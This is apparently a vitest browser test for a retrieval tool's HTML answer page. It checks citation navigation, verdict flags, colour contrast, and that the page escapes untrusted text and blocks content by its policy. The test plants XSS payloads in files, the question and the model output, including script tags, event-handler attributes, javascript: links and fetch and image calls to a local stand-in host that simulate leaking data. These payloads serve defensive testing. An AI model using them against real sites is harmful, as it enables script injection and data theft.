import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { hasPassed, type Answer } from "@ragstone/core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { browserPath, openPage, type Page } from "@ragstone/testkit";
import { folderOf } from "../../engine/test/folder.js";
import { ragstone } from "./command.js";
import { citationOf, fakeAnthropic } from "../../engine/test/fake-anthropic.js";

const attacks = [
  `<script>window.hacked = "script"; fetch("http://127.0.0.1:9/leak")</script>`,
  `<img src="http://127.0.0.1:9/p.png?d=SECRET" onerror="window.hacked = 'image'">`,
  `<svg onload="window.hacked = 'svg'"><a href="javascript:window.hacked='link'">x</a></svg>`,
  `<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe><link rel="stylesheet" href="http://127.0.0.1:9/s.css"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">`,
  `</mark></div></details></main><style>body { display: none; background: url(http://127.0.0.1:9/b.png) }</style>`,
  `" onmouseover="window.hacked = 'attribute'" x="`,
];
const filler = Array.from(
  { length: 400 },
  (_, at) => `Line ${at} of the log tells nothing of note about pumps and valves.`,
).join("\n");
const files = {
  "keys.md": `# Keys\n\n${attacks.join("\n\n")}\n\nSigning keys rotate every 90 days 🔑. The vault stands in Oslo, beside the fjord.\n\n${filler}\n\nOld keys stay valid for 24 hours.\n`,
  "long/a-very-long-path-that-does-not-break-anywhere-because-it-has-no-spaces/backups.txt": `${filler}\nBackups are kept for 30 days. ${"x".repeat(300)}\n`,
};
const answerText = [
  ["Signing keys rotate every 90 days.", "Signing keys rotate every 90 days 🔑."],
  ["Old keys stay valid for 24 hours.", "Old keys stay valid for 24 hours."],
  ["Backups are kept for 60 days.", "Backups are kept for 30 days."],
  ["The vault stands in Oslo.", "The vault stands in Oslo, beside the fjord."],
] as const;

/** Writes the page by the real command, with an answer whose verdicts differ and whose text attacks. */
async function pageOf(): Promise<{ readonly file: string; readonly answer: Answer }> {
  const fake = await fakeAnthropic((request) => ({
    blocks: [
      ...answerText.map(([text, quote]) => ({ text: `${text} `, citations: [citationOf(request, quote)] })),
      { text: `Nobody knows why <b onclick="window.hacked='answer'">bold</b> keys matter. ${attacks.join(" ")}` },
    ],
  }));
  const folder = await folderOf(files);
  const file = join(folder, "answer.html");
  const question = `How often do signing keys rotate, are backups kept, and old keys valid? ${attacks[0]!.replaceAll('"', "'")}`;
  const ended = await ragstone(
    ["ask", question, folder, "--model", "anthropic:claude-x", "--base-url", fake.origin, "--html", file, "--json"],
    { env: { ANTHROPIC_API_KEY: "sk-ant-secret0123456789" } },
  );
  expect(ended).toMatchObject({ code: 4, err: "" });
  return { file, answer: ended.json<Answer>() };
}

/** Contrast of text against its background (WCAG 2.1), for every element that directly shows text. */
const leastContrast = `(() => {
  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  const rgba = (color, under) => { canvas.globalCompositeOperation = "copy"; canvas.fillStyle = under ?? "rgba(0,0,0,0)"; canvas.fillRect(0, 0, 1, 1); canvas.globalCompositeOperation = "source-over"; canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1); return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const light = ([r, g, b]) => [r, g, b].map((c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4).reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
  document.documentElement.style.backgroundColor = "Canvas";
  const behind = (element) => { for (let e = element; e !== null; e = e.parentElement) { const c = rgba(getComputedStyle(e).backgroundColor); if (c[3] === 255) return c; } };
  const found = [];
  for (const element of document.body.querySelectorAll("*")) {
    if (![...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim() !== "") || element.getBoundingClientRect().width === 0) continue;
    const back = behind(element), front = rgba(getComputedStyle(element).color, "rgb(" + back.slice(0, 3) + ")");
    const [high, low] = [light(front), light(back)].sort((a, b) => b - a);
    found.push([(high + 0.05) / (low + 0.05), element.tagName + "." + element.className]);
  }
  return found.sort((a, b) => a[0] - b[0])[0];
})()`;

const where = browserPath ?? "skipped: no Chromium or Chrome here; name one with RAGSTONE_BROWSER";

describe.skipIf(browserPath === null)(`the page of an answer in a real browser (${where})`, () => {
  let page: Page;
  beforeAll(async () => {
    page = await openPage(browserPath!);
  });
  afterAll(() => page.close());

  test("asks for nothing, runs nothing, shows verdicts, and leads every marker to the words that it quotes", async () => {
    const { file, answer } = await pageOf();
    const before = page.events.length;
    await page.go(pathToFileURL(file).href);
    expect(answer.citations).toHaveLength(4);

    // Each marker, clicked as a reader would, brings its passage into view.
    for (const { id, quote } of answer.citations) {
      const place = await page.evaluate<{ x: number; y: number }>(
        `(() => { const box = document.querySelector('.answer a[href="#c${id}"]'); box.scrollIntoView({ block: "center" }); const { left, top, width, height } = box.getBoundingClientRect(); return { x: left + width / 2, y: top + height / 2 }; })()`,
      );
      for (const type of ["mousePressed", "mouseReleased"])
        await page.send("Input.dispatchMouseEvent", { type, ...place, button: "left", clickCount: 1 });
      const shown = await page.evaluate<{ hash: string; text: string; inView: boolean }>(`(async () => {
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
        const anchor = document.querySelector(":target");
        let text = "";
        for (let node = anchor.nextSibling; node !== null && text.length < ${quote.length}; node = node.nextSibling) if (node.nodeName === "MARK") text += node.textContent;
        const box = anchor.nextElementSibling.getBoundingClientRect(), frame = anchor.closest(".text").getBoundingClientRect();
        return { hash: location.hash, text, inView: box.top >= Math.max(0, frame.top) - 1 && box.top < Math.min(innerHeight, frame.bottom) };
      })()`);
      expect(shown).toEqual({ hash: `#c${id}`, text: quote, inView: true });
    }

    // Failed claims are named next to it; passed ones are not.
    const flags = await page.evaluate<string[]>(
      `[...document.querySelectorAll(".flag")].filter((flag) => flag.checkVisibility() && flag.getBoundingClientRect().height > 0).map((flag) => flag.textContent)`,
    );
    const failed = answer.claims.filter((claim) => !hasPassed(claim));
    expect(flags).toEqual(failed.map(({ verdict, problems }) => `${verdict}: ${problems.join(", ")}`));
    expect(flags).toContain("unsupported: number-mismatch");
    expect(await page.evaluate("document.querySelector('.made').textContent")).toContain(
      `${answer.claims.length - failed.length} of ${answer.claims.length} claims passed the checks`,
    );

    // Output from files, question and model is text only.
    expect(
      await page.evaluate(
        "[window.hacked, document.scripts.length, document.querySelectorAll('img, svg, iframe, link, b[onclick], " +
          "style:not(head style), meta:not(head meta)').length]",
      ),
    ).toEqual([null, 0, 0]);
    expect(await page.evaluate("document.body.innerText")).toContain(attacks[0]);
    expect(
      await page.evaluate(
        "[...document.querySelectorAll('a[href]')].every((a) => /^#c\\d+$/.test(a.getAttribute('href')))",
      ),
    ).toBe(true);
    const seen = page.events.slice(before);
    expect(
      seen
        .filter(({ method }) => method === "Network.requestWillBeSent")
        .map(({ params }) => (params["request"] as { url: string }).url),
    ).toEqual([pathToFileURL(file).href]);
    expect(
      seen
        .filter(({ method }) =>
          ["Page.javascriptDialogOpening", "Log.entryAdded", "Audits.issueAdded", "Runtime.exceptionThrown"].includes(
            method,
          ),
        )
        .map(({ params }) => JSON.stringify(params)),
    ).toEqual([]);
  });

  test("forbids by its policy all that it does not contain itself", async () => {
    const { file } = await pageOf();
    const html = await readFile(file, "utf8");
    const folder = await folderOf({});
    const planted = join(folder, "planted.html");
    // Sending the reader elsewhere after a time is no loading, and no policy of a page forbids it.
    await writeFile(
      planted,
      html.replace(
        "<main>",
        `<main>${attacks
          .join("\n")
          .replace(/<meta[^>]*>/u, "")
          .replaceAll("</main>", "")}`,
      ),
    );
    const before = page.events.length;
    await page.go(pathToFileURL(planted).href);
    expect(await page.evaluate("window.hacked ?? null")).toBeNull();
    const blocked = page.events
      .slice(before)
      .filter(({ method, params }) => method === "Network.loadingFailed" && params["blockedReason"] === "csp");
    const sent = page.events
      .slice(before)
      .filter(({ method }) => method === "Network.requestWillBeSent")
      .map(({ params }) => (params["request"] as { url: string }).url)
      .filter((url) => url.includes(":9/"));
    expect(sent.length).toBe(blocked.length);
  });

  test.each(["light", "dark"])("can be read in %s, wide and narrow", async (scheme) => {
    const { file } = await pageOf();
    await page.send("Emulation.setEmulatedMedia", { features: [{ name: "prefers-color-scheme", value: scheme }] });
    for (const width of [1280, 320]) {
      await page.send("Emulation.setDeviceMetricsOverride", {
        width,
        height: 800,
        deviceScaleFactor: 1,
        mobile: width < 600,
      });
      await page.go(pathToFileURL(file).href);
      const [contrast, element] = await page.evaluate<[number, string]>(leastContrast);
      expect.soft([contrast >= 4.5, contrast, element]).toEqual([true, contrast, element]);
      expect.soft(await page.evaluate("document.scrollingElement.scrollWidth")).toBeLessThanOrEqual(width);
      if (process.env["RAGSTONE_SCREENSHOTS"] !== undefined) {
        const { data } = await page.send("Page.captureScreenshot", { format: "png" });
        await writeFile(
          join(process.env["RAGSTONE_SCREENSHOTS"], `${scheme}-${width}.png`),
          Buffer.from(data as string, "base64"),
        );
      }
    }
  });
});
